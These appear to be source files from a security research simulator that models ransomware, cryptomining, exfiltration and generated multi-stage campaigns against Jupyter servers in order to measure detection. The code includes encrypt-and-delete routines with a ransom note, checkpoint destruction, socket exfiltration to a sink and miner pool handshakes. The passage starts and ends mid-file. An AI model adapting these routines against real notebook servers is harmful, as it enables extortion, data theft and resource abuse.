  policy, entropy burst via the cross-feed); the network sees only a
  small execute_request.
- ``via="rest"`` — the attacker (or a hijacked browser session) rewrites
  files through ``/api/contents``.  Visible to the *network monitor*
  (high-entropy PUT bodies).

Mature behaviour is modelled: checkpoints are destroyed first, and the
encryption key leaves with the attacker, so recovery without backups is
impossible (the decrypt helper exists to prove the crypto is real).
"""

from __future__ import annotations

import base64
import json
from typing import List, Set

from repro.attacks.base import Attack, AttackResult
from repro.attacks.scenario import Scenario
from repro.crypto.chacha20 import chacha20_decrypt, chacha20_encrypt
from repro.taxonomy.oscrp import Avenue, Concern

RANSOM_NOTE = (
    "ALL YOUR RESEARCH FILES HAVE BEEN ENCRYPTED.\n"
    "To receive the decryption key, transfer 2 BTC to wallet "
    "bc1qexample... within 72 hours or the key is destroyed.\n"
)


class RansomwareAttack(Attack):
    """Encrypt-and-extort against the victim's home directory."""

    name = "ransomware"
    avenue = Avenue.RANSOMWARE
    technique = "notebook-encryption"

    def __init__(self, *, via: str = "kernel", destroy_checkpoints: bool = True,
                 key: bytes = b"\xa5" * 32, nonce: bytes = b"\x01" * 12,
                 extensions: tuple = (".ipynb", ".csv", ".bin", ".txt")):
        if via not in ("kernel", "rest"):
            raise ValueError("via must be 'kernel' or 'rest'")
        self.via = via
        self.destroy_checkpoints = destroy_checkpoints
        self.key = key
        self.nonce = nonce
        self.extensions = extensions

    # -- helpers -----------------------------------------------------------------
    def decrypt(self, blob: bytes) -> bytes:
        """What the victim could do *if* they had the key."""
        return chacha20_decrypt(self.key, self.nonce, blob)

    def _victim_files(self, scenario: Scenario) -> List[str]:
        root = scenario.server.config.root_dir
        return [
            p for p in scenario.server.fs.walk(root)
            if p.endswith(self.extensions) and ".ipynb_checkpoints" not in p
        ]

    # -- execution ------------------------------------------------------------------
    def execute(self, scenario: Scenario) -> AttackResult:
        before = scenario.server.fs.snapshot()
        if self.via == "kernel":
            encrypted = self._run_via_kernel(scenario)
        else:
            encrypted = self._run_via_rest(scenario)
        after = scenario.server.fs.snapshot()

        concerns: Set[Concern] = set()
        made_unreadable = [p for p in before if p not in after and ".ipynb_checkpoints" not in p]
        if encrypted and made_unreadable:
            concerns.add(Concern.INACCESSIBLE_OR_INCORRECT_DATA)
        checkpoints_gone = self.destroy_checkpoints and not any(
            ".ipynb_checkpoints" in p for p in after
        )
        if checkpoints_gone:
            concerns.add(Concern.DISRUPTION_OF_COMPUTING)
        return self._result(
            success=bool(encrypted),
            concerns=concerns,
            narrative=f"encrypted {len(encrypted)} files via {self.via}",
            files_encrypted=len(encrypted),
            checkpoints_destroyed=checkpoints_gone,
            note_dropped=any(p.endswith("READ_ME_TO_RECOVER.txt") for p in after),
        )

    def _run_via_rest(self, scenario: Scenario) -> List[str]:
        client = scenario.attacker_client(token=scenario.token)
        root_model = client.json("GET", "/api/contents/")
        encrypted: List[str] = []

        def walk(model: dict) -> None:
            for entry in model.get("content") or []:
                if entry["type"] == "directory":
                    walk(client.json("GET", f"/api/contents/{entry['path']}"))
                elif entry["name"].endswith(self.extensions):
                    full = client.json("GET", f"/api/contents/{entry['path']}")
                    raw = self._model_bytes(full)
                    blob = chacha20_encrypt(self.key, self.nonce, raw)
                    client.json("PUT", f"/api/contents/{entry['path']}.locked", {
                        "type": "file", "format": "base64",
                        "content": base64.b64encode(blob).decode(),
                    })
                    client.request("DELETE", f"/api/contents/{entry['path']}")
                    encrypted.append(entry["path"])

        walk(root_model)
        if self.destroy_checkpoints:
            # Checkpoint files live under .ipynb_checkpoints; nuke via fs walk.
            for p in list(scenario.server.fs.walk(scenario.server.config.root_dir)):
                if ".ipynb_checkpoints" in p:
                    scenario.server.fs.delete(p)
        client.json("PUT", "/api/contents/READ_ME_TO_RECOVER.txt",
                    {"type": "file", "content": RANSOM_NOTE})
        return encrypted

    @staticmethod
    def _model_bytes(model: dict) -> bytes:
        if model.get("format") == "base64":
            return base64.b64decode(model["content"])
        if model["type"] == "notebook":
            return json.dumps(model["content"], sort_keys=True).encode()
        return str(model.get("content", "")).encode()

    def _run_via_kernel(self, scenario: Scenario) -> List[str]:
        client = scenario.user_client(username="attacker-via-stolen-session")
        scenario.audited_session(client)
        targets = self._victim_files(scenario)
        key_literal = ",".join(str(b) for b in self.key)
        # The in-kernel payload: a pure-MiniPython XOR-stream cipher.  A real
        # sample ships real crypto; for the simulation the *observable*
        # (high-entropy overwrite burst) is produced by mixing the keystream
        # from the metered hashlib — which also looks like real packers do.
        code_lines = [
            "import os, hashlib",
            f"key_bytes = [{key_literal}]",
            "def keystream(n, counter):",
            "    out = []",
            "    i = 0",
            "    while len(out) < n:",
            "        h = hashlib.sha256(bytes(key_bytes) + bytes([counter % 256, i % 256]))",
            "        out.extend(h.digest())",
            "        i += 1",
            "    return out[:n]",
            "count = 0",
        ]
        root = scenario.server.config.root_dir
        for path in targets:
            rel = path[len(root) + 1:] if path.startswith(root + "/") else path
            code_lines += [
                f"data = open('/{path}', 'rb').read()",
                "ks = keystream(len(data), count)",
                "blob = bytes([b ^ k for b, k in zip(data, ks)])",
                f"out = open('/{path}.locked', 'wb')",
                "out.write(blob)",
                "out.close()",
                f"os.remove('/{path}')",
                "count += 1",
            ]
        if self.destroy_checkpoints:
            code_lines += [
                f"for p in os.walk_paths('/{root}'):",
                "    if '.ipynb_checkpoints' in p:",
                "        os.remove('/' + p)",
            ]
        note = RANSOM_NOTE.replace("\n", "\\n").replace("'", "\\'")
        code_lines += [
            f"note = open('/{root}/READ_ME_TO_RECOVER.txt', 'w')",
            f"note.write('{note}')",
            "note.close()",
        ]
        reply = client.execute("\n".join(code_lines), wait=120.0)
        if reply is None or reply.content.get("status") != "ok":
            return []
        return targets
