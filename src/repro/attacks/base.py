"""Attack framework: base class and result model."""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Any, Dict, Set

from repro.taxonomy.oscrp import Avenue, Concern

if TYPE_CHECKING:  # pragma: no cover
    from repro.attacks.scenario import Scenario


@dataclass
class AttackResult:
    """What an attack achieved and what a defender could have seen."""

    attack: str
    avenue: Avenue
    success: bool
    started: float
    finished: float
    observed_concerns: Set[Concern] = field(default_factory=set)
    metrics: Dict[str, Any] = field(default_factory=dict)
    narrative: str = ""

    @property
    def duration(self) -> float:
        return self.finished - self.started


class Attack:
    """Base class.  Subclasses set ``name``/``avenue``/``technique`` and
    implement :meth:`execute` against a :class:`Scenario`."""

    name = "abstract-attack"
    avenue: Avenue = Avenue.ZERO_DAY
    technique = ""

    def run(self, scenario: "Scenario") -> AttackResult:
        started = scenario.clock.now()
        result = self.execute(scenario)
        result.started = started
        result.finished = scenario.clock.now()
        scenario.results.append(result)
        return result

    def execute(self, scenario: "Scenario") -> AttackResult:  # pragma: no cover - abstract
        raise NotImplementedError

    def _result(self, *, success: bool, concerns: Set[Concern] | None = None,
                narrative: str = "", **metrics: Any) -> AttackResult:
        return AttackResult(
            attack=self.name, avenue=self.avenue, success=success,
            started=0.0, finished=0.0,
            observed_concerns=set(concerns or set()),
            metrics=dict(metrics), narrative=narrative,
        )
