"""The zero-day stand-in (taxonomy: "unknown unknown" zero-day exploits).

By construction this attack matches no shipped signature: its payload
markers are derived from the scenario seed, and its behaviour profile is
configurable.  It exists to measure the *blind spot* of signature-based
detection versus behavioural detection — the reason the paper's Fig. 3
keeps an explicit "unknown unknown" branch.
"""

from __future__ import annotations

from typing import Set

from repro.attacks.base import Attack, AttackResult
from repro.attacks.scenario import Scenario
from repro.taxonomy.oscrp import Avenue, Concern


class ZeroDayAttack(Attack):
    """A novel attack: unique strings, configurable behavioural footprint."""

    name = "zero-day"
    avenue = Avenue.ZERO_DAY
    technique = "novel-exploit-standin"

    def __init__(self, *, exfil_bytes: int = 0, overwrite_files: int = 0,
                 burn_cpu_ops: int = 0):
        self.exfil_bytes = exfil_bytes
        self.overwrite_files = overwrite_files
        self.burn_cpu_ops = burn_cpu_ops

    def execute(self, scenario: Scenario) -> AttackResult:
        client = scenario.user_client(username="attacker-via-stolen-session")
        scenario.audited_session(client)
        marker = f"zd_{scenario.rng.child('zeroday').randint(10**9, 10**10)}"
        concerns: Set[Concern] = set()
        actions = []
        # A benign-looking staging cell with a never-before-seen marker.
        reply = client.execute(f"{marker} = 'initialized'\n{marker}")
        ok = reply is not None and reply.content.get("status") == "ok"
        if self.burn_cpu_ops > 0:
            client.execute(
                f"acc = 0\nfor i in range({self.burn_cpu_ops}):\n    acc += i"
            )
            concerns.add(Concern.DISRUPTION_OF_COMPUTING)
            actions.append(f"burned ~{self.burn_cpu_ops} ops")
        if self.overwrite_files > 0:
            lines = ["import random"]
            for i in range(self.overwrite_files):
                lines += [
                    f"h{i} = open('{marker}_{i}.dat', 'wb')",
                    f"h{i}.write(random.randbytes(256))",
                    f"h{i}.close()",
                ]
            client.execute("\n".join(lines))
            concerns.add(Concern.INACCESSIBLE_OR_INCORRECT_DATA)
            actions.append(f"overwrote {self.overwrite_files} files")
        if self.exfil_bytes > 0:
            client.execute(
                "import socket\n"
                "s = socket.socket()\n"
                f"s.connect(('{scenario.exfil_sink.host.ip}', {scenario.exfil_sink.port}))\n"
                f"s.send('A' * {self.exfil_bytes})"
            )
            scenario.run(3.0)
            if scenario.exfil_sink.total_bytes() > 0:
                concerns.add(Concern.EXPOSED_DATA)
                actions.append(f"exfiltrated {self.exfil_bytes} bytes")
        return self._result(
            success=ok,
            concerns=concerns,
            narrative="zero-day stand-in: " + ("; ".join(actions) or "staging only"),
            marker=marker,
            actions=len(actions),
        )
