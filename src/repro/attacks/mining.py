"""Cryptomining resource abuse (taxonomy: crypto-mining → disruption).

The miner runs as kernel code: subscribe to the pool with a stratum-like
JSON handshake, then alternate hash-grinding bursts with small, metronome-
regular share submissions.  Three independent observables result:

- sustained kernel CPU (audit plane: CPU_ABUSE),
- ``stratum`` vocabulary in cell code (signature plane: SIG-MINER-POOL),
- periodic small sends to one external host (network plane: MINER_BEACON).

EXP-DET uses each plane alone and together, quantifying the paper's
argument that kernel auditing complements network monitoring.
"""

from __future__ import annotations

from typing import Set

from repro.attacks.base import Attack, AttackResult
from repro.attacks.scenario import Scenario
from repro.taxonomy.oscrp import Avenue, Concern


class CryptominingAttack(Attack):
    """In-kernel hash miner with pool beacons."""

    name = "cryptomining"
    avenue = Avenue.CRYPTOMINING
    technique = "kernel-cryptominer"

    def __init__(self, *, rounds: int = 12, hashes_per_round: int = 400,
                 beacon_interval: float = 30.0, stealth_no_keywords: bool = False):
        self.rounds = rounds
        self.hashes_per_round = hashes_per_round
        self.beacon_interval = beacon_interval
        self.stealth_no_keywords = stealth_no_keywords

    def execute(self, scenario: Scenario) -> AttackResult:
        client = scenario.user_client(username="attacker-via-stolen-session")
        auditor = scenario.audited_session(client)
        pool_ip = scenario.mining_pool.host.ip
        pool_port = scenario.mining_pool.port
        subscribe = (
            '{"id":1,"method":"login","params":{"agent":"nb/1.0"}}'
            if self.stealth_no_keywords
            else '{"id":1,"method":"mining.subscribe","params":["xmrig/6.21"]}'
        )
        setup = (
            "import socket, hashlib, json\n"
            "s = socket.socket()\n"
            f"s.connect(('{pool_ip}', {pool_port}))\n"
            f"s.send('{subscribe}')\n"
            "nonce = 0\n"
            "shares = 0"
        )
        reply = client.execute(setup, wait=60.0)
        if reply is None or reply.content.get("status") != "ok":
            return self._result(success=False, narrative="pool connect failed")
        total_hashes = 0
        for r in range(self.rounds):
            submit = '{"method":"mining.submit","nonce":' if not self.stealth_no_keywords \
                else '{"method":"put","v":'
            burst = (
                f"best = ''\n"
                f"for i in range({self.hashes_per_round}):\n"
                "    h = hashlib.sha256(str(nonce)).hexdigest()\n"
                "    nonce += 1\n"
                "    if h < '000fffff':\n"
                "        best = h\n"
                f"s.send('{submit}' + str(nonce) + '}}')\n"
                "shares += 1"
            )
            client.execute(burst, wait=60.0)
            total_hashes += self.hashes_per_round
            scenario.run(self.beacon_interval)
        scenario.run(2.0)
        kernel = scenario.server.kernels[client.kernel_id]
        cpu = kernel.total_cpu_seconds()
        concerns: Set[Concern] = set()
        if cpu > 1.0:
            concerns.add(Concern.DISRUPTION_OF_COMPUTING)
        return self._result(
            success=scenario.mining_pool.connections > 0 and total_hashes > 0,
            concerns=concerns,
            narrative=f"mined {total_hashes} hashes over {self.rounds} rounds, "
                      f"{cpu:.2f} kernel CPU-seconds",
            hashes=total_hashes,
            cpu_seconds=cpu,
            pool_messages=len(scenario.mining_pool.received),
            beacon_interval=self.beacon_interval,
        )
