"""Automated attack campaign generation (paper §IV.B).

"Attacks driven by generative AI tools will automate our listed threats
above and increase the volume of attacks, further challeng[ing] the
security monitoring system."

:class:`CampaignGenerator` models that future: it composes multi-stage
campaigns (recon → access → action-on-objectives) from the taxonomy's
building blocks, with seeded parameter variation so no two campaigns are
byte-identical — the property that defeats exact-match signatures and
stresses volume-sensitive monitors.  :class:`CampaignRunner` executes
fleets of generated campaigns and aggregates what the defenders caught.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Callable, Dict, List, Optional, Sequence

from repro.attacks.base import Attack, AttackResult
from repro.attacks.exfiltration import ExfiltrationAttack, LowAndSlowExfiltration, OutputSmugglingAttack
from repro.attacks.mining import CryptominingAttack
from repro.attacks.misconfig import OpenServerScanAttack
from repro.attacks.ransomware import RansomwareAttack
from repro.attacks.scenario import Scenario, build_scenario
from repro.attacks.takeover import StolenTokenAttack, TokenBruteforceAttack
from repro.attacks.zeroday import ZeroDayAttack
from repro.util.rng import DeterministicRNG


@dataclass
class Campaign:
    """One generated multi-stage campaign."""

    campaign_id: int
    stages: List[Attack]
    objective: str  # "extort" | "steal" | "mine"

    def stage_names(self) -> List[str]:
        return [a.name for a in self.stages]


#: Objective templates: (recon?, access, actions) factories taking an RNG.
def _extort(rng: DeterministicRNG) -> List[Attack]:
    return [
        StolenTokenAttack(),
        RansomwareAttack(
            via=rng.choice(["kernel", "rest"]),
            destroy_checkpoints=rng.random() < 0.8,
            key=rng.randbytes(32),
        ),
    ]


def _steal(rng: DeterministicRNG) -> List[Attack]:
    variant = rng.choice(["bulk", "lowslow", "smuggle"])
    if variant == "bulk":
        action: Attack = ExfiltrationAttack()
    elif variant == "lowslow":
        action = LowAndSlowExfiltration(
            bytes_per_burst=rng.randint(400, 2000),
            interval_seconds=rng.uniform(8.0, 25.0),
            total_bytes=rng.randint(8_000, 24_000),
            jitter=rng.uniform(0.0, 3.0),
        )
    else:
        action = OutputSmugglingAttack()
    return [StolenTokenAttack(), action]


def _mine(rng: DeterministicRNG) -> List[Attack]:
    return [
        StolenTokenAttack(),
        CryptominingAttack(
            rounds=rng.randint(4, 10),
            hashes_per_round=rng.randint(150, 400),
            beacon_interval=rng.uniform(15.0, 45.0),
            stealth_no_keywords=rng.random() < 0.5,
        ),
    ]


OBJECTIVES: Dict[str, Callable[[DeterministicRNG], List[Attack]]] = {
    "extort": _extort,
    "steal": _steal,
    "mine": _mine,
}


class CampaignGenerator:
    """Generates parameter-varied campaigns from the taxonomy's blocks."""

    def __init__(self, seed: int = 0, *, with_recon: bool = True):
        self.rng = DeterministicRNG(f"campaigns:{seed}")
        self.with_recon = with_recon
        self._counter = 0

    def generate(self, objective: Optional[str] = None) -> Campaign:
        self._counter += 1
        rng = self.rng.child(f"c{self._counter}")
        obj = objective or rng.choice(sorted(OBJECTIVES))
        stages: List[Attack] = []
        if self.with_recon and rng.random() < 0.5:
            stages.append(OpenServerScanAttack(ports=[8888, 8889], probe_delay=0.1))
        stages.extend(OBJECTIVES[obj](rng))
        # A fraction of campaigns carry a never-seen payload marker
        # (the "increased variety" half of the claim).
        if rng.random() < 0.3:
            stages.append(ZeroDayAttack(exfil_bytes=rng.randint(1000, 5000)))
        return Campaign(self._counter, stages, obj)

    def generate_fleet(self, n: int, *, objective: Optional[str] = None) -> List[Campaign]:
        return [self.generate(objective) for _ in range(n)]


@dataclass
class CampaignOutcome:
    campaign: Campaign
    results: List[AttackResult]
    notices_triggered: List[str]

    @property
    def detected(self) -> bool:
        return bool(self.notices_triggered)

    @property
    def succeeded(self) -> bool:
        return any(r.success for r in self.results)


class CampaignRunner:
    """Runs campaigns, each against a fresh scenario, and aggregates."""

    def __init__(self, *, base_seed: int = 5000, monitor_budget: float = 0.0):
        self.base_seed = base_seed
        self.monitor_budget = monitor_budget
        self.outcomes: List[CampaignOutcome] = []

    def run(self, campaigns: Sequence[Campaign]) -> List[CampaignOutcome]:
        for i, campaign in enumerate(campaigns):
            scenario = build_scenario(seed=self.base_seed + i,
                                      monitor_budget=self.monitor_budget)
            results = []
            for stage in campaign.stages:
                try:
                    results.append(stage.run(scenario))
                except Exception:
                    # A failed stage aborts the campaign, as it would live.
                    break
            scenario.run(20.0)
            notices = sorted({n.name for n in scenario.monitor.logs.notices
                              if n.severity in ("high", "critical")})
            self.outcomes.append(CampaignOutcome(campaign, results, notices))
        return self.outcomes

    # -- aggregates ---------------------------------------------------------------
    def detection_rate(self) -> float:
        if not self.outcomes:
            return 0.0
        return sum(1 for o in self.outcomes if o.detected) / len(self.outcomes)

    def success_rate(self) -> float:
        if not self.outcomes:
            return 0.0
        return sum(1 for o in self.outcomes if o.succeeded) / len(self.outcomes)

    def by_objective(self) -> Dict[str, Dict[str, float]]:
        out: Dict[str, Dict[str, float]] = {}
        for obj in OBJECTIVES:
            subset = [o for o in self.outcomes if o.campaign.objective == obj]
            if subset:
                out[obj] = {
                    "campaigns": len(subset),
                    "detected": sum(1 for o in subset if o.detected) / len(subset),
                    "succeeded": sum(1 for o in subset if o.succeeded) / len(subset),
                }
        return out
