"""Automated attack campaign generation (paper §IV.B).

"Attacks driven by generative AI tools will automate our listed threats
above and increase the volume of attacks, further challeng[ing] the
security monitoring system."

:class:`CampaignGenerator` models that future: it composes multi-stage
campaigns (recon → access → action-on-objectives) from the taxonomy's
building blocks, with seeded parameter variation so no two campaigns are
byte-identical — the property that defeats exact-match signatures and
stresses volume-sensitive monitors.  :class:`CampaignRunner` executes
fleets of generated campaigns and aggregates what the defenders caught.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import TYPE_CHECKING, Callable, Dict, List, Optional, Sequence, Union

from repro.attacks.base import Attack, AttackResult
from repro.attacks.exfiltration import ExfiltrationAttack, LowAndSlowExfiltration, OutputSmugglingAttack
from repro.attacks.hubpivot import CrossTenantPivotAttack
from repro.attacks.mining import CryptominingAttack
from repro.attacks.misconfig import OpenServerScanAttack
from repro.attacks.ransomware import RansomwareAttack
from repro.attacks.scenario import Scenario, build_scenario
from repro.attacks.takeover import StolenTokenAttack, TokenBruteforceAttack
from repro.attacks.zeroday import ZeroDayAttack
from repro.eval.metrics import containment_rates, outcome_rates
from repro.util.rng import DeterministicRNG

if TYPE_CHECKING:  # pragma: no cover
    from repro.soc.playbook import ResponseAction
    from repro.topology.spec import WorldSpec


@dataclass
class Campaign:
    """One generated multi-stage campaign."""

    campaign_id: int
    stages: List[Attack]
    objective: str  # "extort" | "steal" | "mine"

    def stage_names(self) -> List[str]:
        return [a.name for a in self.stages]


#: Objective templates: (recon?, access, actions) factories taking an RNG.
def _extort(rng: DeterministicRNG) -> List[Attack]:
    return [
        StolenTokenAttack(),
        RansomwareAttack(
            via=rng.choice(["kernel", "rest"]),
            destroy_checkpoints=rng.random() < 0.8,
            key=rng.randbytes(32),
        ),
    ]


def _steal(rng: DeterministicRNG) -> List[Attack]:
    variant = rng.choice(["bulk", "lowslow", "smuggle"])
    if variant == "bulk":
        action: Attack = ExfiltrationAttack()
    elif variant == "lowslow":
        action = LowAndSlowExfiltration(
            bytes_per_burst=rng.randint(400, 2000),
            interval_seconds=rng.uniform(8.0, 25.0),
            total_bytes=rng.randint(8_000, 24_000),
            jitter=rng.uniform(0.0, 3.0),
        )
    else:
        action = OutputSmugglingAttack()
    return [StolenTokenAttack(), action]


def _mine(rng: DeterministicRNG) -> List[Attack]:
    return [
        StolenTokenAttack(),
        CryptominingAttack(
            rounds=rng.randint(4, 10),
            hashes_per_round=rng.randint(150, 400),
            beacon_interval=rng.uniform(15.0, 45.0),
            stealth_no_keywords=rng.random() < 0.5,
        ),
    ]


def _pivot(rng: DeterministicRNG) -> List[Attack]:
    # Lateral movement through a hub: a stolen token, then the sweep.
    # On a hub-less (single-server) world the pivot stage reports its
    # own graceful failure, so the objective still runs everywhere.
    return [
        StolenTokenAttack(),
        CrossTenantPivotAttack(request_delay=rng.uniform(0.3, 0.9)),
    ]


OBJECTIVES: Dict[str, Callable[[DeterministicRNG], List[Attack]]] = {
    "extort": _extort,
    "steal": _steal,
    "mine": _mine,
    "pivot": _pivot,
}


class CampaignGenerator:
    """Generates parameter-varied campaigns from the taxonomy's blocks."""

    def __init__(self, seed: int = 0, *, with_recon: bool = True):
        self.rng = DeterministicRNG(f"campaigns:{seed}")
        self.with_recon = with_recon
        self._counter = 0

    def generate(self, objective: Optional[str] = None) -> Campaign:
        self._counter += 1
        rng = self.rng.child(f"c{self._counter}")
        obj = objective or rng.choice(sorted(OBJECTIVES))
        stages: List[Attack] = []
        if self.with_recon and rng.random() < 0.5:
            stages.append(OpenServerScanAttack(ports=[8888, 8889], probe_delay=0.1))
        stages.extend(OBJECTIVES[obj](rng))
        # A fraction of campaigns carry a never-seen payload marker
        # (the "increased variety" half of the claim).
        if rng.random() < 0.3:
            stages.append(ZeroDayAttack(exfil_bytes=rng.randint(1000, 5000)))
        return Campaign(self._counter, stages, obj)

    def generate_fleet(self, n: int, *, objective: Optional[str] = None) -> List[Campaign]:
        return [self.generate(objective) for _ in range(n)]


@dataclass
class PlannedStage:
    """One stage of a resumable plan: the attack plus execution state.

    ``pending`` stages may run (again — a stage interrupted by
    containment stays pending until it completes or exhausts
    ``max_attempts``); ``done``/``failed``/``abandoned`` are terminal.
    Every attempt's result is kept, so forensics can see a stage that
    half-succeeded, was contained, and succeeded on the retry.
    """

    attack: Attack
    status: str = "pending"  # pending | done | failed | abandoned
    attempts: int = 0
    results: List[AttackResult] = field(default_factory=list)

    @property
    def last_result(self) -> Optional[AttackResult]:
        return self.results[-1] if self.results else None


class CampaignPlan:
    """Resumable, re-plannable execution state over a campaign's stages.

    :func:`run_campaign` keeps its run-to-completion-or-abort semantics;
    an *adaptive* adversary instead drives a plan one stage per turn,
    marking stages done/failed, retrying a stage the defender
    interrupted, swapping a stage for a quieter variant
    (:meth:`replace`), or appending follow-up stages (:meth:`append`)
    after it learns something about the defense.
    """

    def __init__(self, campaign: Campaign, *, max_attempts: int = 3):
        self.campaign = campaign
        self.max_attempts = max_attempts
        self.stages: List[PlannedStage] = [PlannedStage(a)
                                           for a in campaign.stages]

    def next_stage(self) -> Optional[PlannedStage]:
        """The first stage still worth running (None = plan exhausted)."""
        for stage in self.stages:
            if stage.status == "pending":
                return stage
        return None

    @property
    def done(self) -> bool:
        return self.next_stage() is None

    def record(self, stage: PlannedStage, result: Optional[AttackResult], *,
               completed: bool) -> None:
        """Fold one attempt in: completed stages become ``done``; an
        interrupted stage stays ``pending`` for a retry until its
        attempt budget runs out, then turns ``failed``."""
        stage.attempts += 1
        if result is not None:
            stage.results.append(result)
        if completed:
            stage.status = "done"
        elif stage.attempts >= self.max_attempts:
            stage.status = "failed"

    def replace(self, stage: PlannedStage, attack: Attack) -> PlannedStage:
        """Re-plan: swap a stage's attack (e.g. bulk exfil → low-and-slow
        drip) and reset its attempt budget."""
        fresh = PlannedStage(attack)
        self.stages[self.stages.index(stage)] = fresh
        return fresh

    def append(self, attack: Attack) -> PlannedStage:
        stage = PlannedStage(attack)
        self.stages.append(stage)
        return stage

    def abandon(self, stage: PlannedStage) -> None:
        stage.status = "abandoned"

    def results(self) -> List[AttackResult]:
        return [r for s in self.stages for r in s.results]

    def summary(self) -> List[str]:
        return [f"{s.attack.name}: {s.status} "
                f"({s.attempts} attempt{'s' if s.attempts != 1 else ''})"
                for s in self.stages]


@dataclass
class CampaignOutcome:
    campaign: Campaign
    results: List[AttackResult]
    notices_triggered: List[str]
    #: Stage that raised, and the exception, when the campaign aborted —
    #: distinguishes "short campaign" from "campaign that died mid-run".
    failed_stage: Optional[str] = None
    failure: str = ""
    # -- containment forensics (populated when the world has a SOC) ------------
    #: First high/critical notice — when a defender *could* have acted.
    detected_at: Optional[float] = None
    #: First executed (non-dry-run, successful) containment action.
    contained_at: Optional[float] = None
    #: Every response decision the SOC made during the campaign.
    actions: List["ResponseAction"] = field(default_factory=list)

    @property
    def detected(self) -> bool:
        return bool(self.notices_triggered)

    @property
    def succeeded(self) -> bool:
        return any(r.success for r in self.results)

    @property
    def aborted(self) -> bool:
        return self.failed_stage is not None

    @property
    def contained(self) -> bool:
        return self.contained_at is not None

    @property
    def containment_leadtime(self) -> Optional[float]:
        """Detection → first containment action, in sim seconds."""
        if self.detected_at is None or self.contained_at is None:
            return None
        return self.contained_at - self.detected_at

    @property
    def post_detection_success(self) -> Optional[bool]:
        """Did the attacker win anything *started* after detection?
        ``None`` when the campaign was never detected (the question is
        undefined for a blind defender)."""
        if self.detected_at is None:
            return None
        return any(r.success and r.started > self.detected_at
                   for r in self.results)

    @property
    def stages_prevented(self) -> int:
        """Stages the defender denied: planned stages that never ran
        (an earlier stage died against containment) plus stages that
        started after containment and failed."""
        prevented = max(0, len(self.campaign.stages) - len(self.results))
        if self.contained_at is not None:
            prevented += sum(1 for r in self.results
                             if r.started >= self.contained_at and not r.success)
        return prevented

    def actions_taken(self) -> List[str]:
        return [f"{a.action}({a.target})" for a in self.actions
                if a.ok and not a.dry_run]


def run_campaign(scenario: Scenario, campaign: Campaign, *,
                 settle_seconds: float = 20.0) -> CampaignOutcome:
    """Execute one campaign against an already-built world and collect
    the outcome, including containment forensics when the scenario
    carries a response controller (``scenario.soc``)."""
    results: List[AttackResult] = []
    failed_stage: Optional[str] = None
    failure = ""
    for stage in campaign.stages:
        try:
            results.append(stage.run(scenario))
        except Exception as e:
            # A failed stage aborts the campaign, as it would
            # live — but the post-mortem keeps the evidence.
            failed_stage = stage.name
            failure = f"{type(e).__name__}: {e}"
            break
    scenario.run(settle_seconds)
    soc = getattr(scenario, "soc", None)
    if soc is not None:
        soc.poll()  # final sweep so trailing notices still correlate
    high = [n for n in scenario.monitor.logs.notices
            if n.severity in ("high", "critical")]
    notices = sorted({n.name for n in high})
    return CampaignOutcome(
        campaign, results, notices,
        failed_stage=failed_stage, failure=failure,
        detected_at=min((n.ts for n in high), default=None),
        contained_at=soc.first_containment_ts() if soc is not None else None,
        actions=list(soc.executed) if soc is not None else [],
    )


class CampaignRunner:
    """Runs campaigns, each against a fresh world, and aggregates.

    ``spec`` selects the topology every campaign runs against: ``None``
    keeps the classic single-server world, otherwise pass a
    :class:`~repro.topology.spec.WorldSpec` or a preset name
    (``"hub"``, ``"sharded-hub"``, ``"honeypot-hub"``, ...).  The spec
    is compiled freshly per campaign with a per-campaign seed, so
    campaigns stay independent and reproducible.
    """

    def __init__(self, *, base_seed: int = 5000,
                 monitor_budget: Optional[float] = None,
                 spec: Union[None, str, "WorldSpec"] = None):
        self.base_seed = base_seed
        #: None = inherit whatever budget the spec carries; a float
        #: overrides it for every campaign.
        self.monitor_budget = monitor_budget
        self.spec = spec
        self.outcomes: List[CampaignOutcome] = []

    def _build_world(self, index: int) -> Scenario:
        if self.spec is None:
            return build_scenario(seed=self.base_seed + index,
                                  monitor_budget=self.monitor_budget or 0.0)
        from repro.topology import WorldBuilder, resolve_spec

        return WorldBuilder().build(resolve_spec(self.spec),
                                    seed=self.base_seed + index,
                                    monitor_budget=self.monitor_budget)

    def run(self, campaigns: Sequence[Campaign]) -> List[CampaignOutcome]:
        for i, campaign in enumerate(campaigns):
            scenario = self._build_world(i)
            self.outcomes.append(run_campaign(scenario, campaign))
        return self.outcomes

    # -- aggregates ---------------------------------------------------------------
    def detection_rate(self) -> float:
        return outcome_rates(self.outcomes)["detected"]

    def success_rate(self) -> float:
        return outcome_rates(self.outcomes)["succeeded"]

    def containment_summary(self) -> Dict[str, float]:
        return containment_rates(self.outcomes)

    def aborted(self) -> List[CampaignOutcome]:
        return [o for o in self.outcomes if o.aborted]

    def by_objective(self) -> Dict[str, Dict[str, float]]:
        out: Dict[str, Dict[str, float]] = {}
        for obj in OBJECTIVES:
            subset = [o for o in self.outcomes if o.campaign.objective == obj]
            if subset:
                out[obj] = outcome_rates(subset)
        return out


@dataclass
class MatrixCell:
    """One (topology, objective) cell of the campaign matrix."""

    topology: str
    objective: str
    rates: Dict[str, float]
    outcomes: List[CampaignOutcome] = field(default_factory=list)


@dataclass
class MatrixReport:
    """Per-topology detection/success rates for every objective."""

    cells: List[MatrixCell]

    def cell(self, topology: str, objective: str) -> Optional[MatrixCell]:
        for c in self.cells:
            if c.topology == topology and c.objective == objective:
                return c
        return None

    def topologies(self) -> List[str]:
        return sorted({c.topology for c in self.cells})

    def by_topology(self) -> Dict[str, Dict[str, float]]:
        out: Dict[str, Dict[str, float]] = {}
        for topology in self.topologies():
            outcomes = [o for c in self.cells if c.topology == topology
                        for o in c.outcomes]
            out[topology] = containment_rates(outcomes)
        return out

    def to_dict(self) -> Dict[str, Dict[str, Dict[str, float]]]:
        out: Dict[str, Dict[str, Dict[str, float]]] = {}
        for c in self.cells:
            out.setdefault(c.topology, {})[c.objective] = dict(c.rates)
        return out

    def render(self) -> str:
        lines = [f"{'topology':<22} {'objective':<9} {'n':>3} "
                 f"{'detected':>9} {'succeeded':>10} {'aborted':>8} "
                 f"{'contained':>10} {'post-det':>9}"]
        for c in self.cells:
            r = c.rates
            post = r.get("post_detection_succeeded")
            post_s = "-" if post is None else f"{post:.2f}"
            lines.append(f"{c.topology:<22} {c.objective:<9} "
                         f"{int(r['campaigns']):>3} {r['detected']:>9.2f} "
                         f"{r['succeeded']:>10.2f} {r['aborted']:>8.2f} "
